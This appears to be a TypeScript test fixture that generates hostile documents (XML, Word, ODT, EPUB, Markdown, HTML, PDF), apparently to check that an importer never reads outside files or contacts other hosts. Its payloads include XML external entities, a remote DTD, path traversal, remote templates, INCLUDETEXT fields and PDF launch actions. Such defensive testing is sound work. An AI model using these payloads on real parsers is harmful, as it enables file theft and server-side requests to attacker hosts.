/** Files that would have an import read another file, or ask another host. */
import {
  akomaNtoso,
  akomaSection,
  book,
  bookPackage,
  container,
  doctype,
  html,
  markdown,
  openPart,
  openText,
  pdf,
  relations,
  stream,
  word,
  wordParagraph,
  wordPart,
} from './formats.ts';
import type { Content, Hostile, Outside } from './kind.ts';

const ENTITY = '&hurt;';

/** Each part of a format that is XML, with an entity in it. */
const XML_PARTS: Readonly<Record<string, (prolog: string) => Content>> = {
  'text.akn.xml': (prolog) => akomaNtoso(akomaSection(ENTITY), prolog),
  'page.xhtml': (prolog) => html(`<p>${ENTITY}</p>`, prolog),
  'text.docx': (prolog) => word(wordParagraph(ENTITY), {}, prolog),
  'styles.docx': (prolog) =>
    word(wordParagraph('Dues', '<w:pPr><w:pStyle w:val="A"/></w:pPr>'), {
      'word/styles.xml': wordPart(
        'styles',
        `<w:style w:type="paragraph" w:styleId="A"><w:name w:val="${ENTITY}"/></w:style>`,
        prolog,
      ),
    }),
  'footnotes.docx': (prolog) =>
    word('<w:p><w:r><w:t>Dues</w:t></w:r><w:r><w:footnoteReference w:id="2"/></w:r></w:p>', {
      'word/_rels/document.xml.rels': relations(['footnotes', 'footnotes.xml']),
      'word/footnotes.xml': wordPart('footnotes', `<w:footnote w:id="2">${wordParagraph(ENTITY)}</w:footnote>`, prolog),
    }),
  'properties.docx': (prolog) =>
    word('', {
      'docProps/core.xml': `${prolog}<cp:coreProperties xmlns:cp="c" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>${ENTITY}</dc:title></cp:coreProperties>`,
    }),
  'text.odt': (prolog) => openText(`<text:p>${ENTITY}</text:p>`, {}, { prolog }),
  'properties.odt': (prolog) =>
    openText('', { 'meta.xml': openPart('document-meta', `<office:meta>${ENTITY}</office:meta>`, prolog) }),
  'container.epub': (prolog) => book('', { 'META-INF/container.xml': container(`p.opf${ENTITY}`, prolog) }),
  'package.epub': (prolog) => book('', { 'p.opf': bookPackage({ c: 'c.xhtml' }, ['c'], prolog) }),
  'chapter.epub': (prolog) => book(`<p>${ENTITY}</p>`, {}, prolog),
  'picture.epub': (prolog) =>
    book('<p><img src="a.svg" alt="A"/></p>', {
      'a.svg': `${prolog}<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text>${ENTITY}</text></svg>`,
    }),
};

/** Each way in which an entity can stand for what lies elsewhere. */
const ENTITIES: Readonly<Record<string, (outside: Outside) => string>> = {
  'entity-of-a-file': ({ file }) => doctype(`<!ENTITY hurt SYSTEM "file://${file}">`),
  'entity-of-an-address': ({ address }) => doctype(`<!ENTITY hurt SYSTEM "${address}entity">`),
};

const externalEntities = Object.fromEntries(
  Object.entries(ENTITIES).flatMap(([kind, prolog]) =>
    Object.entries(XML_PARTS).map(([part, make]) => [
      `${kind}-in-${part}`,
      (outside: Outside) => make(prolog(outside)),
    ]),
  ),
);

const externalSubset = ({ address }: Outside) =>
  `<?xml version="1.0"?><!DOCTYPE x SYSTEM "${address}hurt.dtd" [<!ENTITY % all SYSTEM "${address}all"> %all;]>`;

/** Pictures outside of a folder, as an address in a text names them. */
const PICTURES: Readonly<Record<string, (outside: Outside) => string>> = {
  'above-the-folder': () => '../secret.svg',
  'above-the-folder-in-escapes': () => '%2e%2e%2fsecret.svg',
  'above-the-folder-by-a-detour': () => 'a/../../secret.svg',
  'by-a-whole-path': ({ file }) => file.replace(/txt$/, 'svg'),
  'by-a-file-address': ({ file }) => `file://${file.replace(/txt$/, 'svg')}`,
  'on-another-host': ({ address }) => `${address}secret.svg`,
  'on-another-host-without-a-scheme': ({ address }) => `${address.replace('http:', '')}secret.svg`,
};

const pictures = Object.fromEntries(
  Object.entries(PICTURES).flatMap(([kind, addressOf]) => [
    [
      `picture-${kind}/page.html`,
      (outside: Outside) => ({ 'page.html': html(`<p><img src="${addressOf(outside)}" alt="A"></p>`) }),
    ],
    [`picture-${kind}/text.md`, (outside: Outside) => ({ 'text.md': markdown(`![A](<${addressOf(outside)}>)`) })],
    [`picture-${kind}.epub`, (outside: Outside) => book(`<p><img src="${addressOf(outside)}" alt="A"/></p>`)],
  ]),
);

/** A drawing of Word whose picture is elsewhere. */
const drawing =
  '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="r0"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>';

/** Files that name what is outside of them. */
export const NAMES_WHAT_IS_OUTSIDE: Hostile = {
  ...externalEntities,
  'declarations-at-an-address.akn.xml': (outside) => akomaNtoso(akomaSection(ENTITY), externalSubset(outside)),
  'declarations-at-an-address.docx': (outside) => word(wordParagraph(ENTITY), {}, externalSubset(outside)),
  'declarations-at-an-address.odt': (outside) =>
    openText(`<text:p>${ENTITY}</text:p>`, {}, { prolog: externalSubset(outside) }),
  'declarations-at-an-address.epub': (outside) => book(`<p>${ENTITY}</p>`, {}, externalSubset(outside)),
  'inclusion-of-a-file.akn.xml': ({ file }) =>
    akomaNtoso(
      akomaSection(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${file}" parse="text"/>`),
    ),
  ...pictures,
  'picture-by-a-link-of-the-file-system/page.html': ({ file }) => ({
    'page.html': html('<p><img src="a.svg" alt="A"></p>'),
    'a.svg': { leadsTo: file.replace(/txt$/, 'svg') },
  }),
  'picture-in-a-linked-folder/text.md': ({ file }) => ({
    'text.md': markdown('![A](pictures/secret.svg)'),
    pictures: { leadsTo: file.replace(/\/[^/]*$/, '') },
  }),
  'chapter-by-a-link-of-the-file-system/': ({ file }) => ({
    'a.md': markdown('Dues.'),
    'b.md': { leadsTo: file.replace(/txt$/, 'md') },
  }),
  'chapters-in-a-linked-folder/': ({ file }) => ({
    'a.md': markdown('Dues.'),
    more: { leadsTo: file.replace(/\/[^/]*$/, '') },
  }),
  'chapters-listed-outside/': ({ file }) => ({
    'a.md': markdown('Dues.'),
    'SUMMARY.md': `- [A](a.md)\n- [B](../secret.md)\n- [C](${file.replace(/txt$/, 'md')})\n`,
  }),
  'list-of-chapters-by-a-link-of-the-file-system/': ({ file }) => ({
    'a.md': markdown('Dues.'),
    '_quarto.yml': { leadsTo: file.replace(/txt$/, 'yml') },
  }),
  'parts-of-a-page-at-an-address.html': ({ address }) =>
    html(
      `<iframe src="${address}a"></iframe><object data="${address}b"></object><embed src="${address}c"><video poster="${address}d" src="${address}e"></video><img srcset="${address}f 2x" src="${address}g.png" alt="A"><p style="background:url(${address}h)">Dues.</p>`,
      `<link rel="stylesheet" href="${address}i"><link rel="preload" href="${address}j"><base href="${address}"><style>@import "${address}k"</style>`,
    ),
  'inclusions-of-files.qmd': ({ file }) =>
    markdown(`{{< include ${file} >}}\n\n{{< embed ${file} >}}\n\n!include ${file}\n\n:::{.include}\n${file}\n:::`),
  'picture-elsewhere.docx': ({ file }) =>
    word(drawing, {
      'word/_rels/document.xml.rels': relations(['image', `file://${file.replace(/txt$/, 'svg')}`, 'External']),
    }),
  'picture-at-an-address.docx': ({ address }) =>
    word(drawing, { 'word/_rels/document.xml.rels': relations(['image', `${address}a.png`, 'External']) }),
  'template-at-an-address.docx': ({ address }) =>
    word('', {
      'word/settings.xml': wordPart('settings', '<w:attachedTemplate r:id="r0"/>'),
      'word/_rels/settings.xml.rels': relations(['attachedTemplate', `${address}hurt.dotm`, 'External']),
    }),
  'other-documents-in-it.docx': ({ file }) =>
    word('<w:altChunk r:id="r0"/><w:subDoc r:id="r1"/>', {
      'word/_rels/document.xml.rels': relations(
        ['aFChunk', `file://${file}`, 'External'],
        ['subDocument', file, 'External'],
      ),
    }),
  'field-that-includes-a-file.docx': ({ file }) =>
    word(`<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;${file}&quot;"><w:r><w:t>Dues</w:t></w:r></w:fldSimple></w:p>`),
  'picture-elsewhere.odt': ({ file }) =>
    openText(
      `<text:p><draw:frame><draw:image xlink:href="file://${file.replace(/txt$/, 'svg')}"/></draw:frame><draw:frame><draw:image xlink:href="../secret.svg"/></draw:frame></text:p>`,
    ),
  'section-of-another-file.odt': ({ file }) =>
    openText(
      `<text:section text:name="A"><text:section-source xlink:href="file://${file}"/><text:p>Dues.</text:p></text:section>`,
    ),
  'chapter-above-the-book.epub': () => book('', { 'p.opf': bookPackage({ c: 'c.xhtml', d: '../../secret.xhtml' }) }),
  'chapter-above-the-book-in-escapes.epub': () =>
    book('', { 'p.opf': bookPackage({ c: 'c.xhtml', d: '%2e%2e/%2e%2e/secret.xhtml' }) }),
  'chapter-by-a-file-address.epub': ({ file }) =>
    book('', { 'p.opf': bookPackage({ d: `file://${file}`, c: 'c.xhtml' }) }),
  'package-above-the-book.epub': () => book('', { 'META-INF/container.xml': container('../../secret.opf') }),
  'actions-that-open-files.pdf': ({ file, address }) =>
    pdf({
      catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${address}js"\\)) >> /AA << /WC << /S /Launch /F (${file}) >> >>`,
      page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (${address}link) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /GoToR /F (${file}) /D [0 /Fit] >> >>]`,
    }),
  'content-in-another-file.pdf': ({ file }) =>
    pdf({
      content: '/X0 Do',
      drawn: [`<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /F (${file}) /Length 0 >> stream\n\nendstream`],
    }),
  'form-with-an-entity-of-a-file.pdf': ({ file }) =>
    pdf({
      catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>',
      more: [stream(`${doctype(`<!ENTITY hurt SYSTEM "file://${file}">`)}<xdp:xdp xmlns:xdp="x">&hurt;</xdp:xdp>`)],
    }),
};
